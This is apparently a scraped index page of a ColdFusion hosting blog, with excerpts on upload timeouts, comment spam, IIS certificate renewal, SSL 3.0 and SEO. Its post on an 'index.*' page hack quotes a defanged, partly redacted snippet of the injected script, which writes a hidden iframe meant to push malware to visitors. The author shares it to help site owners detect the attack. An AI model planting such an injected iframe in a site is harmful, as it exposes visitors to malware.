ColdFusion Muse

Upload Problem Post-Mortem

We had a ticklish issue arise with a customers recently. We host an application for them that allows them to upload files. As they began to use the application more heavily they noticed that file uploads above a certain size were failing. The size was fairly modest. Uploads sized between 1 and 4 megs were simply timing out. We eventually came up with a solution, but not before some head scratching. Here is the play-by-play.


New Spam Bot Cracking Captcha Perhaps?

When I arrived at work this morning I foundmore than 280 spam links posted as comments to various entries on my blog. They were all for certain articles of clothing which shall remain nameless (but some of them are made for walking). Now occasionally, about 3 or 4 times a week, I'll see a single spammy comment posted and I just kill it - cased closed. The Captcha keeps out most automated spam, so I figure any spam I get is individuals paid to labouriously post links. This seemed like more than that - both in volume and in the systematic way it was perpetrated. I will be keeping a close eye on it - but it makes me wonder if there is a bot out there that has cracked my captcha.

Meanwhile, my sincerest apologies to anyone subscribed to any post of mine who had to suffer through these emails. The Muse will do what he can to make sure it is not a commmon occurance.

Certificate Renewal Follies in IIS 7

I have a few Win2008 servers under management and I had to renew a cert for one of them today. Now I confess this is the first time I had to do this particular task so there was some head scratching involved. I learned a number of things that might be of some use to you if you are up against this task. In this case I was renewing a Verisign cert. Here's what I learned.


Iframe Insertion on Index.* Home pages

There's a hack that's beginning to be active that targets pages named "index.*". Actually it sounds rather like an old hack that is resurfacing. Since many ColdFusion sites use this convention for the home page this attack tends to hit quite a few ColdFusion sites that are vulnerable. The attack appends a script like this one to the bottom of each "index.*" page:

<sc ript>
var applstrna0 = " ;var applstrna1 = "rame src=http://***Domain Host Name****";
var applstrna2 = ".com/bb/faq.htm";
var applstrna3 = " width=100 height=0> ;
var applstrna4 = "frame>";
Please note that I have not included the actual url of this attack. The domain includes the string "said7". I am only making sure I mention said7 so that folks searching for info on this attack can find this specific post and possibly be helped. I have no wish to benefit the said7 effort and I hope they all get dysentery and spend the weekend in the latrine.

As you can see the script itself is pretty simple. It writes out an invisible Iframe to the bottom of the page. The target of the Iframe attempts to download a trojan or malware to the users machine. This attack is insidious and I have yet to discover the origin. But I do know a few things about it - and how to prevent it from continuing. One important thing to note, if you have this problem and Google indexes your sites and sees these pages they will flag your site. Browsers like Firefox use the Google service to throw up a big "malware" warning.

The following article details the attack and the notes I've gathered about it. Some day soon I hope to post a more definitive who, what, when and why post about it. To gather the following notes I'm indebted to the folks on the CF-Talk List (this thread), Nathan, Nick, Jason, Scott, Don and probably a few others I am forgetting. I can't give away too much info here - but please accept my thanks.


Coldfusion, SSL 3.0 and

I've been batting this around for a few days now. Recently, Mary JoSminkey of CF Webstore fame posted a note to an email list about the recent requirement by that incoming requests to their API use SSL 3.0. I confess to being unaware of the differences between SSL 2.0 and 3.0. So I set out to discover for myself. To start with SSL 2.0 uses weaker handshaking. A requesting client can, it seems, edit the list of preferences leaving the server no choice but to hand shake with the "lowest common denominator" cipher. There are some other issues as well dealing with how the packets are constructed etc. So the consensus is that SSL 2.0 is the weak sister and should be deprecated. For its part SSL 3.0 has been around for a decade or so and is widely supported.

The question is, will my CFHTTP calls from ColdFusion 6 or Coldfusion 7 still work when disables SSL 2.0? To answer this question I got some great help from Scott Krebs over at Edge Web. He dug out three or four URLs that were really helpful. I've included them at the bottom of this post. I also got some guidance from the Stephen Hawking of cryptography, Mr. Dean H. Saxe (the H is for Holy Cow he knows a lot). The answer is a qualified yes. Anyway, here's what I did to test while I wait for to get their act together and set up a test bed.


When Patches Attack

Last night I was sitting at home and using myVPN to dial into one of our servers (a Win2k3 server). I noticed that there were a couple of patches pending installation. Now as a rule I do not run every patch, nor do I ever let windows "manage" patching for me. Instead, I let windows download the patches and I choose when and what to install. Still, a couple of these patches were important security fixes (Usually a good idea) so I installed them. Now windows does not always require a reboot after patching, but sometimes it does, and yes it is one of the annoying things about Windows, so please don't use this post to comment on how much better Linux is than Windows or cheese or Santa Clause or sex or whatever. Anyway, this time it did ask andwhen I chose to restart things went "a bit wonky" as some of my UK readers might say.


Checking the Size of the Spool Directory on Windows

If you ever send out a few tens of thousands of messages using CF you know the spool directory can get pretty crowded. If you are like me you sometimeswant to keep an eye on it as those messages clear out to make sure there is nothing funky going on. If you use Windows Explorer this can be a maddening experience. Windows doesn't just retrieve a count of files. It retrieves the entire file list and meta data and it redraws the explorer window. When you have 50k messages in the spool folder it can take 10 to 30 seconds just for Windows to refresh the count so you can know how many were added or deleted to the folder.

Instead, I use a little tool called "t4edirsize" from tools 4 Ever. I have a "show spool" batch file on my servers that lookslike this:


t4edirsize.exe d:\cfusion8\mail\spool
The output gives me all sorts of information including the number of files in the directory - but it usually only takes 50-200 milliseconds to run. Tools 4 ever command line tools along with Sys-Internals tools (now owned by Microsoft) like "pslist" and "pskill" are essential to your arsenal as a troubleshooter.

Virtual Sites and "Host Headers" Explained

Some web developers never bother to learn the nitty gritty stuff that makes up the Internet. I've seen very bright programmers who don't know the difference between a GET request and a POST request (or why they should care). In your journey through the IT landscape it would behoove you to pick up a few tips on how the web actually works. In my view you should know the basics of how a web server and browser work together to deliver content. You should know how to setup a web site in IIS or Apache, andyou should know when to use a GET and when to use a POST. It also wouldn't hurt to learn about IP addressing, routing, classless subnets, ARP Caching, application pools, JVM Garbage collection, the theory of relativity and the meaning of life.... but I digress.

Among the items I find myself explaining over and over is the concept of a "HOST Header" and how it's used on a web server. Like many of my blog posts this one is intended to help me so I can point to it and not have to repeat myself. Now to be fair, this topic is one I sometimes have to cover with customers and site owners who need to know the difference between a dedicated IP address and a "virtual site". Either way, here's a run down of "virtual sites" and "host headers".


Search Engine Safe URLs and Semantic Parameters

This topic crops up frequently in our line of work. Among the items that are often listed as important to search engines are "search engine safe" (SES) URLs. It has been pointed out that Google will index just about anything - including obscure looking URLs with cryptic parameters on them. Although this is true, we shall see that it does not exempt the developer from paying attention to the URL when he or she is thinking about search engine optimization. Let me explain.


Targeting Web Masters: Spamming's New Low

Fightingspam is a lot like those movies where blood suckingzombies just keep coming at you in a never ending supply of non-descript humanoids who want to eat your brain or take out your daughter. I can live with having to keep filters up to date. I know how to use SPF, Spam Assassin and client side filters like spambayes (check it out if you are an outlook user). I can even live with the bots constantly attacking my web forms and trying to hack them to send their own mail. But I think I have stumbled onto a technique that smacks of desperation.

Occasionally I view a stats report for my blog. I use Smarter Stats from "Smarter Tools". It's quite good and it gives me some excellent reporting options (I also love their "Smarter Mail" server). One of the reports I like to view is "referring sites". Mostly I'm just snooping to see if any CF big wigs like Ben Forta, Sean Corfield or Ray Camden have linked to my blog (we keep a bottle of champaigne on ice for those occasions). It is interesting to see all of the sitesthat are listed. All of our CF Webtools blogs are cross linked so I see them listed as I would expect. Google, MSN and Yahoo are all represented as are blog aggregators like fullasagoog and the old Macromedia weblog aggregator. Interestingly I see some international sites like and

All of these I can explain and understand how they arrived in my log files. But here's a couple I can't explain. There is a link to a site called "" - which I took to be another blog portal. When I went to the site it is actually a personal loan information site. A closer look discovered sites like "topsecuredloan","onlineapoker", "insurede" and others less benign. How are these particular referring sites getting into my log files? I have a couple of guesses.

My first guess has to do with email. If you are using a web based email client like Yahoo, and someone sends you an email with alink in it, when you click on the link the "referring site" is actually something like "". So perhaps these sites are showing up because someone is clicking on a link in a web based email client that uses that domain. I kind of find this explanation unlikely. Would anyone really be checkign their mail at a domain like I suppose if they were using a web host where it was set up that way it could happen.

My second guess is that someone clicked on a Google ad for Coldfusion Muse. I quickly went to my ad words account and verified that I am not set up to serve Google ads for my blog. We only serve ads for our main web site, CF Webtools.

There may be other explanations, but at least one that I can think of is that it is a new form of spam. It would be trivial to create a bot that issues web requests with a specific referrer. After all, adding your site as a referring site causes your link to show up in reports and sometimes someone (like myself) will click on it. Of course it would only target folks who are looking at web log reports. Can any muse readers provide any alternate theories? It certainly seems like an act ofdesperation - or perhaps just too easy to pass up. In any case, I'm off to apply for a 22% loan. Tata.

From Server "A" to Server "B" - Details Matter When Re-hosting

You probably know that CF Webtools hosts a fair number of sites in our own burgeoning data center. We are not a commodity host (i.e. Godaddy or HostMySite). Instead, we host a large group of Farcry sites, several dedicated servers, and a large group of very complicated Coldfusion sites with special requirements (data feeds, point to point encryption, data aggregation and third party secure services etc.). Our hosting has grown substantially in the last year and has become an excellent revenue center for us.

One of the type of projects we find ourselves doing with some regularity is a "site re-host". Usually a company has an application that clearly requires more help andattention than can be gained using a commodity host and self service control panels. Furthermore, such sites have often "evolved" from widgety little intranet type sites with B2B tools, special custom ecommerce applications or homegrown CMS capabilities into monsters of maintenance with hundreds of pages (many of them titled stuff like "order_bak.cfm" or "index.old"). Incidently never leave a file like "index.old" on your web site. If the web server is in default config mode it can serve that file up to your user without running it through the Coldfusion engine. That exposes your code and makes you easier to attack.

In any case, re-hosting a site seems like a simple enterprise. If your site consists of a database and codebase then it can be simple - but the devil is in the details (and in the cat as my Dad use to say). Here is a rundown that you might find useful.


Search Engines Series Pt. 2.b - Links, Content and Format

In this post, part 2 "b" in our search engine series, we will discuss how the content and structure of your page might influence how your site is viewed by search engines. In part 1 we talked about having useful and valuable content. That lesson is the foundation on which all other legitimate techniques must be based. If your content is not useful you are part of the problem we are trying to solve. In Part 2 "a" we talked about stuff that goes into the header. Now it's time to talk about things that go into the actual page.


Search Engines Series Pt. 2 - Coding The Header

In this post, part 2 in our search engine series, we will discuss important aspects of coding and designing that willfacilitate easier indexing by search engines and create a higher likelihood of a rising page rank. In Part 1 of this series we discussed the concept that your web site needs valuable and fresh content to really be useful to search engines. Without useful content your web site will not be a destination that anyone wants to visit, and therefore it will not besomething that search engines (who are customer focused) want to index. Keep part 1 in mind as we discuss what you can do with your code and with your pages. Unless you have solved the puzzle of maintaining fresh and valuable content on your web site, you will be spinning your wheels.

Of course, you can use certain techniques to get yourself ranked high - at least temporarily. But my guess is that you will spend just as much time changing your code in a running battle to keep yourself on top of Google as you would if you learned to write and maintain good information on your site. By the way,those "black-hat techniques" are not discussed in this post. This post is about preparing your valuable content to be consumed by a search engine that wants and needs it - not about tricking a search engine into indexing less than worthy content. With that in mind....


Search Engines Series Pt. 1 - Content is King

